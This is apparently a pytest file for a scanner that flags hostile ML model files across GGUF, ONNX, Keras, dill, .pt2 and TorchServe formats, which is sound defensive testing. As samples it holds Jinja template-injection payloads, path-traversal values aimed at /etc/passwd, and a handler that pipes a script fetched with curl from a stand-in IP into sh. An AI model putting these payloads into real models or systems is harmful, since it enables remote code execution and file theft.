"""Issue 16, new formats: GGUF, ONNX, Keras HDF5, dill, .pt2, .mar. Benign files are made
by the real libraries where they install; malicious ones are bytes built here, never loaded.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

import pytest

from scanner.checks.interface import CheckContext
from scanner.checks.models.check import check_model_files
from scanner.checks.models.gguf import read_gguf, template_problems
from scanner.checks.models.model_files import is_model_file, scan_model_file
from scanner.models import Finding, Inventory, ModelFile, Severity
from scanner.options import ScanOptions
from tests.models import picklekit as kit


def _check(*paths: Path) -> list[Finding]:
    files = tuple(ModelFile(path=p, size=p.stat().st_size) for p in paths)
    return list(
        check_model_files(Inventory(model_files=files), CheckContext(ScanOptions())).findings
    )


def _rules(path: Path) -> set[tuple[str, Severity]]:
    return {(f.rule_id, f.severity) for f in _check(path)}


# -- GGUF ------------------------------------------------------------------------------------

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}"
    "{% endif %}"
)
QWEN_TEMPLATE = (
    "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- if messages[0].role == 'system' %}"
    "{{- messages[0].content + '\\n\\n' }}{%- endif %}{%- for tool in tools %}"
    "{{- tool | tojson }}{%- endfor %}{%- endif %}{%- for message in messages %}"
    "{%- if message.role == 'user' or (message.role == 'system' and not loop.first) %}"
    "{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}"
    "{%- elif message.role == 'assistant' %}{%- set ns = namespace(first=true) %}"
    "{{- raise_exception('bad') if message.tool_calls is string }}{%- endif %}{%- endfor %}"
)
INJECTIONS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum['_' ~ '_globals_' ~ '_'] }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ self._TemplateReference__context.joiner }}",
]


def _gguf(path: Path, template: str, version: int = 3) -> Path:
    """A minimal GGUF file by hand: header, two metadata entries, no tensors."""

    def string(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    kv = string("general.architecture") + struct.pack("<I", 8) + string("llama")
    kv += string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)
    path.write_bytes(b"GGUF" + struct.pack("<IQQ", version, 0, 2) + kv)
    return path


@pytest.mark.parametrize("template", [LLAMA3_TEMPLATE, QWEN_TEMPLATE])
def test_real_chat_templates_pass(template: str) -> None:
    assert template_problems(template) == []


@pytest.mark.parametrize("template", INJECTIONS)
def test_template_injection_blocked(tmp_path: Path, template: str) -> None:
    path = _gguf(tmp_path / "model.gguf", QWEN_TEMPLATE + template)
    assert ("WS-MODEL-008", Severity.CRITICAL) in _rules(path)
    assert _check(_gguf(tmp_path / "good.gguf", QWEN_TEMPLATE)) == []


def test_gguf_real_file(tmp_path: Path) -> None:
    gguf = pytest.importorskip("gguf")
    np = pytest.importorskip("numpy")
    path = tmp_path / "model.gguf"
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(LLAMA3_TEMPLATE)
    writer.add_token_list(["<s>", "a", "b"])
    writer.add_uint32("llama.context_length", 2048)
    writer.add_tensor("w", np.zeros((8, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    with path.open("rb") as fh:
        info = read_gguf(fh, path.stat().st_size)
    assert info.tensors == 1 and info.templates == (("tokenizer.chat_template", LLAMA3_TEMPLATE),)
    assert is_model_file(path) and _check(path) == []
    evil = tmp_path / "evil.gguf"
    writer = gguf.GGUFWriter(str(evil), "llama")
    writer.add_chat_template(INJECTIONS[2])
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.close()
    assert ("WS-MODEL-008", Severity.CRITICAL) in _rules(evil)


def test_gguf_truncated_is_corrupt(tmp_path: Path) -> None:
    path = _gguf(tmp_path / "model.gguf", LLAMA3_TEMPLATE)
    path.write_bytes(path.read_bytes()[:-10])
    assert ("WS-MODEL-006", Severity.HIGH) in _rules(path)


# -- ONNX ------------------------------------------------------------------------------------


def _onnx_model(domain: str = "", op: str = "Add"):  # type: ignore[no-untyped-def]
    onnx = pytest.importorskip("onnx")
    np = pytest.importorskip("numpy")
    from onnx import TensorProto, helper, numpy_helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
    w = numpy_helper.from_array(np.ones(4, dtype=np.float32), "W")
    node = helper.make_node(op, ["X", "W"], ["Y"], domain=domain)
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    graph = helper.make_graph([node], "g", [x], [y], [w])
    return onnx, helper.make_model(graph, opset_imports=opsets)


def test_onnx_real_files_pass(tmp_path: Path) -> None:
    onnx, model = _onnx_model()
    onnx.save(model, tmp_path / "inline.onnx")
    onnx.save_model(
        model,
        tmp_path / "external.onnx",
        save_as_external_data=True,
        location="weights.bin",
        size_threshold=0,
    )
    for name in ("inline.onnx", "external.onnx"):
        path = tmp_path / name
        assert scan_model_file(path).format == "onnx"
        assert is_model_file(path) and _check(path) == []


@pytest.mark.parametrize("location", ["../../etc/passwd", "/etc/passwd", "a/../../x.bin"])
def test_onnx_external_data_leaving_the_directory(tmp_path: Path, location: str) -> None:
    onnx, model = _onnx_model()
    onnx.save_model(
        model,
        tmp_path / "model.onnx",
        save_as_external_data=True,
        location="weights.bin",
        size_threshold=0,
    )
    assert _check(tmp_path / "model.onnx") == []
    hostile = tmp_path / "evil.onnx"
    model.graph.initializer[0].external_data[0].value = location  # the proto, not the file
    onnx.save(model, hostile)
    assert ("WS-MODEL-009", Severity.HIGH) in _rules(hostile)


def test_onnx_custom_op_domain(tmp_path: Path) -> None:
    onnx, model = _onnx_model("com.example.evil", "Backdoor")
    onnx.save(model, tmp_path / "model.onnx")
    assert _rules(tmp_path / "model.onnx") == {("WS-MODEL-010", Severity.MEDIUM)}
    onnx, model = _onnx_model("com.microsoft", "FusedMatMul")
    onnx.save(model, tmp_path / "ort.onnx")
    assert _check(tmp_path / "ort.onnx") == []


def test_onnx_not_protobuf_is_corrupt(tmp_path: Path) -> None:
    path = tmp_path / "model.onnx"
    path.write_bytes(b"\x08\x07\x12\xff\xff\xff\xff\x0f")
    assert ("WS-MODEL-006", Severity.HIGH) in _rules(path)


# -- Keras HDF5 ------------------------------------------------------------------------------

DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}
LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}},
}


def _h5(path: Path, layers: list[dict[str, object]]) -> Path:
    h5py = pytest.importorskip("h5py")
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
    with h5py.File(path, "w") as f:  # the attributes keras.saving writes to an .h5
        f.attrs["keras_version"] = "3.6.0"
        f.attrs["backend"] = "torch"
        f.attrs["model_config"] = json.dumps(config)
        f.create_group("model_weights").create_dataset("w", data=[1.0, 2.0])
    return path


def test_h5_lambda_layer_found(tmp_path: Path) -> None:
    assert ("WS-MODEL-002", Severity.HIGH) in _rules(_h5(tmp_path / "model.h5", [DENSE, LAMBDA]))
    assert _check(_h5(tmp_path / "good.h5", [DENSE])) == []


def test_h5_external_layers(tmp_path: Path) -> None:
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/x"}}
    lookup = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": "/etc/passwd"},
    }
    for layer in (tfsm, lookup):
        assert ("WS-MODEL-011", Severity.HIGH) in _rules(_h5(tmp_path / "m.h5", [layer]))
    inline = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": ["a", "b"]},
    }
    assert _check(_h5(tmp_path / "ok.h5", [inline])) == []


def test_h5_module_outside_keras_is_critical(tmp_path: Path) -> None:
    layer = {"module": "os", "class_name": "system", "config": {}}
    assert ("WS-MODEL-004", Severity.CRITICAL) in _rules(_h5(tmp_path / "m.h5", [layer]))


# -- dill ------------------------------------------------------------------------------------


def test_dill_files(tmp_path: Path) -> None:
    dill = pytest.importorskip("dill")
    good = tmp_path / "state.dill"
    good.write_bytes(dill.dumps({"lr": 0.1, "steps": [1, 2, 3]}))
    assert _check(good) == []
    bad = tmp_path / "fn.dill"
    bad.write_bytes(dill.dumps(lambda x: x + 1))  # dill pickles code objects
    assert ("WS-PICKLE-001", Severity.CRITICAL) in _rules(bad)


# -- torch.export .pt2 -----------------------------------------------------------------------


def test_pt2_real_and_hostile(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")

    class Small(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(4, 2)

        def forward(self, x):  # type: ignore[no-untyped-def]
            return self.lin(x).relu()

    path = tmp_path / "model.pt2"
    torch.export.save(torch.export.export(Small(), (torch.randn(2, 4),)), path)
    assert is_model_file(path) and _check(path) == []
    hostile = tmp_path / "evil.pt2"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(hostile, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        prefix = src.namelist()[0].split("/")[0]
        dst.writestr(f"{prefix}/data/constants/c0", kit.os_system())
    assert ("WS-PICKLE-001", Severity.CRITICAL) in _rules(hostile)


# -- TorchServe .mar -------------------------------------------------------------------------

HANDLER_OK = b"""from ts.torch_handler.base_handler import BaseHandler
import torch


class Handler(BaseHandler):
    def preprocess(self, data):
        return torch.tensor([row["body"] for row in data])
"""
HANDLER_EVIL = b"""import os
os.system("curl -s http://203.0.113.9/x.sh | sh")
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    pass
"""


def _mar(path: Path, handler: bytes, model: bytes) -> Path:
    manifest = {
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py"},
        "archiverVersion": "0.12.0",
    }
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        zf.writestr("handler.py", handler)
        zf.writestr("model.pt", model)
    return path


def test_mar_handler_goes_through_the_heuristics(tmp_path: Path) -> None:
    checkpoint = io.BytesIO()
    with zipfile.ZipFile(checkpoint, "w") as zf:
        zf.writestr("archive/data.pkl", kit.torch_like_state_dict())
        zf.writestr("archive/version", "3\n")
    good = _mar(tmp_path / "good.mar", HANDLER_OK, checkpoint.getvalue())
    assert is_model_file(good)
    assert _rules(good) == {("WS-MODEL-007", Severity.MEDIUM)}
    bad = _mar(tmp_path / "bad.mar", HANDLER_EVIL, checkpoint.getvalue())
    findings = _check(bad)
    assert any(
        f.severity >= Severity.HIGH
        and f.path.endswith("handler.py")
        and f.rule_id.startswith("WS-")
        and not f.rule_id.startswith("WS-MODEL")
        for f in findings
    ), findings
    evil_model = _mar(tmp_path / "evil-model.mar", HANDLER_OK, kit.os_system())
    assert ("WS-PICKLE-001", Severity.CRITICAL) in _rules(evil_model)
